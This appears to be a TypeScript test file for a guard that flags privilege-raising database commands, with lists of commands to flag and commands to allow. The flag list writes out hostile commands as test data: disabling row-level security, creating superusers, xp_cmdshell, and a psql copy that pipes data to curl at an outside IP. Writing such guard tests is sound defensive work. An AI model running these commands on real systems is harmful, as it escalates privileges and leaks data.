import { each, guardTest } from '../../../testing/index.ts'
import guard, { docs } from './raised-access.ts'

guardTest(guard, docs, {
  asks: [
    'psql -c "ALTER TABLE orders DISABLE ROW LEVEL SECURITY"',
    'psql -c "select 1; DROP POLICY tenant ON orders"',
    `psql -c "\\\\copy (select 1) to program 'curl -d @- http://203.0.113.3/'"`,
    'echo "create user a with superuser password 1" | psql',
    "psql shop <<'SQL'\nselect 1;\nalter system set ssl = off;\nSQL",
    'sqlcmd -Q "EXEC xp_cmdshell \'dir\'"',
    'docker exec db mysql -e "SET GLOBAL log_bin_trust_function_creators = 1"',
    'psql -c "GRANT SELECT ON orders TO PUBLIC"',
    // By its path a program is no client: the list alone names it.
    ...each(
      '/usr/bin/mariadb|/usr/bin/sqlite3|/usr/bin/mycli -e "ALTER USER app IDENTIFIED BY 1"',
      '/usr/bin/sqlcmd|/usr/bin/usql|/usr/bin/pgcli|/usr/bin/cockroach "ALTER ROLE app SUPERUSER"',
      '/usr/bin/clickhouse-client -q "GRANT ALL ON *.* TO app"',
    ),
  ],
  allows: [
    'mysql -e "show grants"',
    `echo 'psql -c "ALTER ROLE app SUPERUSER"'`,
    'psql -c "copy orders to stdout"',
    "rg -e 'GRANT ALL ON'",
    'echo "GRANT ALL ON *.* TO app" > notes.sql',
    'psql -c "create extension pg_trgm"',
  ],
})
